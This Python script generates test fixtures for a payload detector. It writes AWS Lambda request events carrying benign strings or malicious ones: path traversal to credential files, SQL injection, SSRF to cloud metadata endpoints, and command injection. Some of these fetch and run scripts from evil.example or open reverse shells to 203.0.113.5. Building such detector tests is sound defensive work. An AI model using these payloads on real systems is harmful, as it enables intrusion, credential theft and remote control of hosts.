#!/usr/bin/env python3
"""Writes the payload-inspection corpus: realistic Lambda events (API Gateway
v1/v2, function URL, ALB, SQS) carrying benign or malicious values in the
places attackers use (query, path parameter, JSON/form/base64 body, header,
cookie). Run it from anywhere; it rewrites benign/ and malicious/ beside it.
Malicious file names start with the detector they must trigger.
The payloads are written here by hand from the well-known attack classes
(OWASP testing guide categories); the benign values deliberately include
text that looks scary (quotes in names, SQL words, paths, public URLs)."""
import base64, json, os, shutil, urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))

MALICIOUS = {
    "path_traversal": [
        "../../../../etc/passwd", "../../../etc/shadow", "..\\..\\..\\windows\\win.ini", "/etc/passwd",
        "/proc/self/environ", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc%c0%afpasswd",
        "....//....//....//etc/passwd", "images/../../../var/task/lambda_function.py", "/proc/1/environ",
        "php://filter/convert.base64-encode/resource=index.php", "..%5c..%5c..%5cboot.ini",
        "/root/.ssh/id_rsa", "../.env", "../../../../../../var/runtime/bootstrap", "/home/sbx_user1051/.aws/credentials",
        "..;/..;/etc/passwd", "/var/task/.env", "file:/etc/hosts", "%2e%2e/%2e%2e/%2e%2e/etc/group",
        "/proc/self/cmdline", "../../../../../etc/passwd%00.png", "..//..//..//etc//passwd",
        # Evasions a review found (tenth session): doubled and dot segments,
        # JSON escapes left in text.
        "/etc//passwd", "/etc/./shadow", "/etc/x/../passwd", "{\"file\":\"\\u002fetc\\u002fpasswd\"}",
    ],
    "command_injection": [
        "127.0.0.1; cat /etc/passwd", "8.8.8.8 | id", "x && whoami", "`id`", "$(curl -s http://evil.example/x.sh|sh)",
        "; /bin/sh -i", "cat${IFS}/etc/passwd", "file.txt\nls -la /", "a;sleep 10", "|| ping -c 10 127.0.0.1",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "x;{cat,/etc/passwd}", "a|nc -e /bin/sh 203.0.113.5 4444",
        "; python3 -c 'import socket,os,pty'", "report.pdf; rm -rf /tmp/*", "$(whoami)", "a`uname -a`",
        "name & wget http://evil.example/m -O /tmp/m", "x;$IFS$9cat$IFS$9/etc/shadow", "1;env",
        "test | base64 /etc/passwd", "a\r\nid", "x; perl -e 'exec \"/bin/sh\"'", "| busybox nc 203.0.113.5 9 -e sh",
        "&& curl http://evil.example/$(hostname)",
        "127.0.0.1\\u003b cat /etc/passwd", "{\"cmd\":\"x\\u007c id -a\"}",
    ],
    "sql_injection": [
        "' OR 1=1--", "admin'--", "1' or '1'='1", "1 OR 1=1", "' UNION SELECT username, password FROM users--",
        "1 union all select null,null,null", "x'; DROP TABLE users;--", "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--",
        "1; select pg_sleep(5)", "' or ''='", "\" or \"\"=\"", "1/**/UNION/**/SELECT/**/1,2", "' or true--",
        "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)", "' order by 3--", "x' and extractvalue(1,concat(0x7e,version()))--",
        "admin' #", "1) or (1=1", "' having 1=1--", "-1 UNION SELECT table_name FROM information_schema.tables",
        "1'; exec xp_cmdshell 'dir'--", "' AND 1=0 UNION ALL SELECT 'a',@@version--", "abc' or 'x'='x",
        "1 and benchmark(5000000,md5(1))",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1:9000/", "http://[::1]:22/",
        "http://0.0.0.0:8080/", "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
        "http://127.1/", "http://10.0.0.5/internal", "https://192.168.1.1/admin", "http://172.16.3.4:9200/_search",
        "gopher://127.0.0.1:6379/_FLUSHALL", "http://user@169.254.169.254/", "http://169.254.169.254.nip.io/",
        "169.254.169.254", "localhost:6379", "http://[::ffff:127.0.0.1]/", "http://localtest.me/", "dict://0:11211/stat",
        "http://169.254.170.2/v2/credentials", "https://evil.example@127.0.0.1/", "http://internal-db.ec2.internal:5432/",
        "http:\\\\127.0.0.1\\admin", "http:/169.254.169.254/latest/", "http://127\u3002" "0\u3002" "0\u3002" "1/",
        "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/", "http://\u2460\u2461\u2466.0.0.1/",
    ],
}

BENIGN = [
    "O'Brien", "SELECT a plan", "Select your plan or upgrade", "docs/2024/report.pdf", "https://example.com/search?q=shoes",
    "Tom & Jerry", "rock && roll", "salt; pepper", "It's 5 o'clock", "I'd like 'tea' or 'coffee'", "https://aws.amazon.com/",
    "the union of two sets", "cats & dogs", "Fish; chips & peas", "price >= 10 and <= 20", "user@example.com",
    "+1 (555) 123-4567", "C'est la vie", "Meeting; update the doc", "version 1.2.3", "see docs/../README",
    "#hashtag -- note", "sleep well; dream", "2024-05-01T10:00:00Z", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    "50% off -- today only", "https://api.github.com/repos/octo/repo", "/api/v1/users/42", "/static/css/site.css",
    "Drop the table by the window", "Delete old files from the share", "Insert coin", "We ate at Sid's; then went home",
    "My password is 'hunter2' or so", "Let's meet at 10", "a | b", "cp.example.org", "10.0.0.5", "2852039166",
    "ls", "echo chamber", "The cat sat on the mat", "ping me later", "id card", "env friendly",
    "https://s3.amazonaws.com/bucket/key.png", "https://en.wikipedia.org/wiki/Localhost", "I live on 127th street",
    "Rock 'n' roll", "Order by Friday", "group by team", "Robert'); or maybe not", "don't stop",
    "uploads/2023/12/photo-01.jpg", "reports/q1/summary.csv", "C:\\Users\\Public\\Documents\\notes.txt",
    "file name with spaces.docx", "https://cdn.example.net/assets/app.js?v=3", "mailto:someone@example.com",
    "https://maps.google.com/?q=52.5,13.4", "A & B; C & D", "5 * 3 = 15", "1 + 1 = 2", "x = y or z",
    "he said \"yes\" or \"no\"", "Q&A session", "R&D budget", "Johnson & Johnson", "AT&T", "H&M; Zara",
    "SELECT * FROM menu is a joke from our chef", "I wish I could union select my socks",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "curl/8.4.0", "python-requests/2.31.0", "PostmanRuntime/7.36.0", "application/json; charset=utf-8",
    "max-age=0", "no-cache", "keep-alive", "same-origin", "?1", "document", "navigate",
    "Ich heiße Müller", "日本語のテキスト", "emoji 🎉 party", "naïve café", "Ω≈ç√∫", "mañana",
    "tmp", "etc", "passwords are hashed", "environment variables", "proc macro", "the shadow of the tower",
    "How do I use /etc/hosts-like files on Windows?", "<b>bold</b>", "{{name}}", "${name}", "100%",
    "12345", "true", "null", "", "a", "aa", "-", "..", "...", "....", "a.b.c.d", "1.2.3.4", "8.8.8.8",
    "https://8.8.8.8/", "http://203.0.113.10/status", "https://my-bucket.s3.us-east-1.amazonaws.com/",
    "https://example.com/a/../b", "./relative/file.txt", "path/to/file", "../", "home", "root beer",
    "Take the 1 or 2 train", "The ratio is 1:1", "Don't -- ever", "it's ok; it's fine", "Who's on first?",
    "Please update the status set for review", "insert into the document the new clause",
    "we need to drop database knowledge into the wiki", "sleep(8 hours)", "benchmark results 2024",
    "waitfor it", "order 66", "She said: 'or else'", "'quoted'", "\"double\"", "a'b'c", "'' or nothing",
    "we ship to 127 countries", "localhost is my favourite word in the docs", "meta-data",
    "http://example.com/?redirect=https://example.org/", "ftp://ftp.example.com/pub/file.tar.gz",
    "git@github.com:octo/repo.git", "s3://bucket/prefix/object", "arn:aws:s3:::bucket/key",
    # Look-alikes of the tenth session's new rules (JSON escapes, look-alike
    # hosts, quoted text) that must stay quiet.
    "Dog & Cat", "Search & Find", "\"Tom\",\"Dog & Cat\"", "m\u00b2 and km\u00b2", "Step \u2460 then \u2461",
    "\u6771\u4eac\u3002\u5927\u962a\u3002", "\uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48 text",
    "C:\\new\\table.txt", "line one\\nline two", "https:/typo.example.org/page", "caf\\u00e9 au lait",
]

def v1(params, headers=None, body=None, b64=False, path_params=None):
    return {"resource": "/items/{id}", "path": "/items/1", "httpMethod": "GET" if body is None else "POST",
            "headers": dict({"Accept": "application/json", "Host": "abc.execute-api.us-east-1.amazonaws.com",
                             "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
                             "X-Amzn-Trace-Id": "Root=1-5e1b4151-5ac6c58f3b0c4e8ca6b2d2a4",
                             "X-Forwarded-For": "198.51.100.7", "X-Forwarded-Port": "443", "X-Forwarded-Proto": "https"}, **(headers or {})),
            "multiValueHeaders": {}, "queryStringParameters": params or None,
            "multiValueQueryStringParameters": {k: [v] for k, v in (params or {}).items()} or None,
            "pathParameters": path_params or {"id": "1"}, "stageVariables": None,
            "requestContext": {"accountId": "123456789012", "apiId": "abc", "stage": "prod", "requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef",
                               "identity": {"sourceIp": "198.51.100.7", "userAgent": "Mozilla/5.0"}, "resourcePath": "/items/{id}", "httpMethod": "GET"},
            "body": body, "isBase64Encoded": b64}

def v2(query, headers=None, body=None, b64=False, cookies=None, url=False):
    ctx = {"accountId": "123456789012", "apiId": "abc", "domainName": "xyz.lambda-url.us-east-1.on.aws" if url else "abc.execute-api.us-east-1.amazonaws.com",
           "http": {"method": "GET" if body is None else "POST", "path": "/items", "protocol": "HTTP/1.1", "sourceIp": "198.51.100.7", "userAgent": "curl/8.4.0"},
           "requestId": "JKJaXmPLvHcESHA=", "routeKey": "$default", "stage": "$default", "time": "12/Mar/2024:19:03:58 +0000", "timeEpoch": 1710270238000}
    ev = {"version": "2.0", "routeKey": "$default", "rawPath": "/items", "rawQueryString": urllib.parse.urlencode(query),
          "headers": dict({"accept": "*/*", "host": ctx["domainName"], "user-agent": "curl/8.4.0",
                           "x-amzn-trace-id": "Root=1-65f0a7de-1c2d3e4f5a6b7c8d9e0f1a2b", "x-forwarded-for": "198.51.100.7",
                           "x-forwarded-port": "443", "x-forwarded-proto": "https"}, **(headers or {})),
          "queryStringParameters": dict(query) or None, "requestContext": ctx, "isBase64Encoded": b64}
    if cookies: ev["cookies"] = cookies
    if body is not None: ev["body"] = body
    return ev

def alb(query, body=None):
    return {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/lambda/6d0ecf831eec9f09"}},
            "httpMethod": "GET", "path": "/lambda", "queryStringParameters": {k: urllib.parse.quote(v, safe="") for k, v in query.items()},
            "headers": {"accept": "text/html", "host": "lambda-alb-123578498.us-east-1.elb.amazonaws.com", "user-agent": "Mozilla/5.0",
                        "x-forwarded-for": "72.12.164.125", "x-forwarded-port": "80", "x-forwarded-proto": "http"},
            "body": body or "", "isBase64Encoded": False}

def sqs(value):
    return {"Records": [{"messageId": "059f36b4-87a3-44ab-83d2-661975830a7d", "receiptHandle": "AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a",
                         "body": value, "attributes": {"ApproximateReceiveCount": "1", "SenderId": "AIDAIENQZJOLO23YVJ4VO"},
                         "messageAttributes": {}, "md5OfBody": "e4e68fb7bd0e697a0ae8f1bb342846b3", "eventSource": "aws:sqs",
                         "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:my-queue", "awsRegion": "us-east-1"}]}

PARAM = {"path_traversal": "file", "command_injection": "host", "sql_injection": "id", "ssrf": "url"}

def placements(name, value):
    """Yields (tag, event) for one value in several shapes and positions."""
    yield "v1q", v1({name: value})
    yield "v2q", v2({name: value, "page": "2"})
    yield "v2json", v2({}, {"content-type": "application/json"}, json.dumps({"data": {name: value, "note": "hello"}}))
    yield "v2form64", v2({}, {"content-type": "application/x-www-form-urlencoded"},
                         base64.b64encode(urllib.parse.urlencode({name: value}).encode()).decode(), True)
    yield "url", v2({name: value}, url=True)
    yield "alb", alb({name: value})
    yield "v1path", v1({}, path_params={"id": value})
    yield "v2cookie", v2({}, cookies=["pref=" + urllib.parse.quote(value, safe="")])
    yield "v1header", v1({}, headers={"X-Custom-Value": value})
    yield "sqs", sqs(value)

def main():
    for sub in ("benign", "malicious"):
        shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
        os.makedirs(os.path.join(HERE, sub))
    n = 0
    for det, values in MALICIOUS.items():
        for i, value in enumerate(values):
            # Rotate positions so every payload appears in two shapes.
            places = list(placements(PARAM[det], value))
            for tag, ev in (places[i % len(places)], places[(i + 3) % len(places)]):
                with open(os.path.join(HERE, "malicious", f"{det}-{i:02d}-{tag}.json"), "w") as f:
                    json.dump(ev, f)
                n += 1
    m = 0
    for i, value in enumerate(BENIGN):
        places = list(placements("q", value))
        for tag, ev in (places[i % len(places)], places[(i + 5) % len(places)]):
            with open(os.path.join(HERE, "benign", f"benign-{i:03d}-{tag}.json"), "w") as f:
                json.dump(ev, f, ensure_ascii=False)
            m += 1
    print(f"wrote {n} malicious and {m} benign events")

if __name__ == "__main__":
    main()
